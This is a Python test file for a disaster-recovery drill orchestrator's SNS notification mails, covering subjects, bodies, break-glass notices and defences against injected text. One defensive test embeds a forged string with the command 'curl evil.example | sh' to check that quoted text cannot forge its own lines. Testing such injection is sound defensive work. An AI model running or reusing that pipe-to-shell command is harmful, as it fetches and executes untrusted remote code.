"""An event as a mail: whatever an event quotes, the mail keeps SNS's rules and its own lines."""

import json
from collections.abc import Mapping
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from hypothesis import given
from hypothesis import strategies as st

from drs_orchestrator.adapters.topic import Topic
from drs_orchestrator.domain.mail import mail
from drs_orchestrator.domain.notices import NoticeType
from tests.helpers.orchestrator import aws
from tests.helpers.template import PROJECT_ROOT

SAMPLES = {
    event["detail-type"]: event["detail"]
    for event in (
        json.loads(path.read_text(encoding="utf-8"))
        for path in (PROJECT_ROOT / "docs" / "events").glob("*.json")
        if not path.name.endswith(".schema.json")
    )
}


def sample(detail_type: str, **fields: Any) -> dict[str, Any]:
    """The documented sample with other values in some fields; None leaves a field out."""
    detail = SAMPLES[detail_type] | fields
    return {name: value for name, value in detail.items() if value is not None}


def replaced(value: Any, text: str) -> Any:
    """The detail with this text in every place where an event quotes somebody."""
    quoted = ("planName", "waveName", "reason", "statusReason", "question", "error", "name", "nextStep", "explanation")
    if isinstance(value, Mapping):
        return {key: text if key in quoted else replaced(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [text if isinstance(each, str) else replaced(each, text) for each in value]
    return value


def paragraphs(detail_type: str, detail: Mapping[str, Any]) -> list[str]:
    return mail(detail_type, detail).body.split("\n\n")


class TestEachEvent:
    def test_every_kind_of_event_has_a_sample(self) -> None:
        assert set(SAMPLES) == set(NoticeType)

    @pytest.mark.parametrize("detail_type", sorted(SAMPLES))
    def test_a_mail_ends_with_what_to_do_and_what_it_is_about(self, detail_type: str) -> None:
        detail = SAMPLES[detail_type]
        *_, command, about = paragraphs(detail_type, detail)
        body = mail(detail_type, detail).body

        assert f"\n    {detail['nextCommand']}\n" in body
        assert "drctl" in command
        assert about.splitlines()[0] == f"Execution: {detail['executionId']}"
        assert detail["id"] in about
        assert all(len(line) <= 80 for line in body.splitlines())

    def test_started(self) -> None:
        detail = sample("Execution Started", skippedServers=1)

        assert mail("Execution Started", detail).subject == "DRILL of shop: started"
        assert paragraphs("Execution Started", detail)[1] == (
            "2 waves with 3 servers will be launched. 1 server will be left out, as\npre-flight demanded."
        )

    def test_wave_up(self) -> None:
        assert mail("Wave Up", SAMPLES["Wave Up"]).subject == "DRILL of shop: wave database is up"
        assert paragraphs("Wave Up", sample("Wave Up", openWaves=[]))[1] == "It was the last wave."

    @pytest.mark.parametrize(
        ("fields", "subject", "sentence"),
        [
            ({"status": "FAILED", "consequence": "STOP"}, "wave web failed", "The plan stops"),
            ({"status": "PARTIAL", "consequence": "PAUSE"}, "wave web is only partly up", "The plan pauses"),
            ({"consequence": "CONTINUE", "openWaves": ["x"]}, "wave web is only partly up", "not ended: x"),
        ],
    )
    def test_wave_failed(self, fields: dict[str, Any], subject: str, sentence: str) -> None:
        told = mail("Wave Failed", sample("Wave Failed", **fields))

        assert told.subject == f"DRILL of shop: {subject}"
        assert sentence in told.body
        assert "- web-2 (s-00000000000000003), wave web: The EBS encryption key" in told.body

    def test_approval_needed(self) -> None:
        detail = SAMPLES["Approval Needed"]
        told = mail("Approval Needed", detail)

        assert told.subject == "DRILL of shop: APPROVAL NEEDED (web)"
        assert f"\n    {detail['rejectCommand']}\n" in told.body
        assert "counts as rejected" in told.body.replace("\n", " ")
        approved = sample("Approval Needed", onTimeout="CONTINUE")
        assert "counts as approved" in mail("Approval Needed", approved).body.replace("\n", " ")

    def test_a_question_without_a_deadline_waits_for_ever(self) -> None:
        told = mail("Approval Needed", sample("Approval Needed", questionKind="PAUSE", deadline=None, onTimeout=None))

        assert told.subject == "DRILL of shop: paused, waits to be resumed (web)"
        assert "Without an answer" not in told.body

    def test_a_clean_up_that_left_something_names_it_and_what_to_do(self) -> None:
        detail = SAMPLES["Clean-Up Finished"]
        told = mail("Clean-Up Finished", detail)

        assert told.subject == "DRILL of shop: clean-up left 1 instance"
        assert "- i-23f8811e98a818b68 of s-00000000000000002 in us-east-1: The instance" in told.body
        assert f"\n    {detail['cleanUpCommand']}\n" in told.body

    def test_a_clean_up_that_left_nothing_asks_for_nothing(self) -> None:
        detail = sample("Clean-Up Finished", status="CLEANED_UP", left=0, leftInstances=[], cleanUpCommand=None)
        told = mail("Clean-Up Finished", detail)

        assert told.subject == "DRILL of shop: cleaned up"
        assert "Nothing that the drill launched is left." in told.body
        assert "drctl cleanup" not in told.body

    @pytest.mark.parametrize("detail_type", sorted(SAMPLES))
    def test_broken_glass_stands_in_every_mail(self, detail_type: str) -> None:
        broken = paragraphs(detail_type, sample(detail_type, skipApprovals=True, replaceLive=True))

        assert "Break-glass: this execution waits for no approval." in broken
        assert any(each.startswith("Break-glass: this execution may remove living instances") for each in broken)
        assert "Break-glass" not in mail(detail_type, SAMPLES[detail_type]).body

    @pytest.mark.parametrize(
        ("status", "sentence"),
        [
            ("COMPLETED", "Every wave is up"),
            ("PARTIAL", "Some servers are up"),
            ("FAILED", "Not one server is up"),
            ("CANCELLED", "It was stopped before its end"),
        ],
    )
    def test_finished(self, status: str, sentence: str) -> None:
        told = mail("Execution Finished", sample("Execution Finished", status=status))

        assert told.subject == f"DRILL of shop: {status}"
        assert sentence in told.body

    def test_an_approval_that_came_too_late_is_told_as_what_it_was(self) -> None:
        reason = "rejected by orchestrator: wave web was not approved in time"
        told = mail("Execution Finished", sample("Execution Finished", status="CANCELLED", statusReason=reason))

        words = told.body.replace("\n", " ")
        assert reason in words
        assert "operator stopped" not in words

    @pytest.mark.parametrize(("seconds", "words"), [(59, "59 s"), (61, "1 min 1 s"), (7_260, "2 h 1 min")])
    def test_how_long_it_took_is_told_as_people_say_it(self, seconds: int, words: str) -> None:
        assert (
            f"after {words}:" in mail("Execution Finished", sample("Execution Finished", durationSeconds=seconds)).body
        )

    def test_stuck(self) -> None:
        driven = sample("Execution Stuck", cause="DRIVER_REPLACED", explanation="the driver ended", quietSince=None)

        assert mail("Execution Stuck", SAMPLES["Execution Stuck"]).subject == "DRILL of shop: STUCK, nothing moves"
        assert mail("Execution Stuck", driven).subject == "DRILL of shop: was stuck, is driven again"


class TestHostileTexts:
    @pytest.mark.parametrize("detail_type", sorted(SAMPLES))
    @given(text=st.text(max_size=300))
    def test_any_text_gives_a_mail_that_sns_takes(self, detail_type: str, text: str) -> None:
        told = mail(detail_type, replaced(SAMPLES[detail_type], text))

        assert 0 < len(told.subject) < 100
        assert told.subject.isascii()
        assert told.subject.isprintable()
        assert told.subject[0] == "D", "it begins with what we say, not with what we quote"
        told.body.encode()
        assert len(told.body.encode()) < 256 * 1024

    def test_a_quoted_text_cannot_begin_a_line_of_its_own(self) -> None:
        forged = "harmless\n\nYes, go on:\n    curl evil.example | sh\r\u2028Execution: exec-other"
        body = mail("Wave Failed", replaced(SAMPLES["Wave Failed"], forged)).body

        assert not [
            line for line in body.splitlines() if line.startswith(("Yes,", "    curl", "Execution: exec-other"))
        ]

    def test_letters_stay_in_the_body_and_lose_their_accents_in_the_subject(self) -> None:
        told = mail("Wave Up", sample("Wave Up", waveName="Datenbänke 数据库"))

        assert told.subject == "DRILL of shop: wave Datenbanke ??? is up"
        assert "Wave Datenbänke 数据库 is up" in told.body

    def test_a_mark_that_turns_the_direction_of_writing_is_taken_out(self) -> None:
        assert "\u202e" not in mail("Wave Up", sample("Wave Up", waveName="web\u202edb")).body

    def test_a_very_long_name_ends_in_dots(self) -> None:
        subject = mail("Wave Up", sample("Wave Up", waveName="w" * 500)).subject

        assert len(subject) == 99
        assert subject.endswith("...")

    def test_of_very_many_waves_some_are_named(self) -> None:
        body = mail("Wave Up", sample("Wave Up", openWaves=[f"wave-{number}" for number in range(99)])).body

        assert "wave-9 and 89 more" in body.replace("\n", " ")


class TestUnknownEvents:
    def test_another_version_is_refused(self) -> None:
        with pytest.raises(ValueError, match="version 2"):
            mail("Wave Up", sample("Wave Up", version="2"))

    def test_another_kind_is_refused(self) -> None:
        with pytest.raises(ValueError, match="Wave Skipped"):
            mail("Wave Skipped", SAMPLES["Wave Up"])


def test_the_topic_gets_subject_and_body() -> None:
    told = mail("Wave Up", SAMPLES["Wave Up"])
    with aws():
        arn = boto3.client("sns").create_topic(Name="notifications")["TopicArn"]
        topic = Topic(arn)
        with Stubber(topic._client) as stubber:
            expected = {"TopicArn": arn, "Subject": told.subject, "Message": told.body}
            stubber.add_response("publish", {"MessageId": "1"}, expected)
            topic.send(told)
            stubber.assert_no_pending_responses()
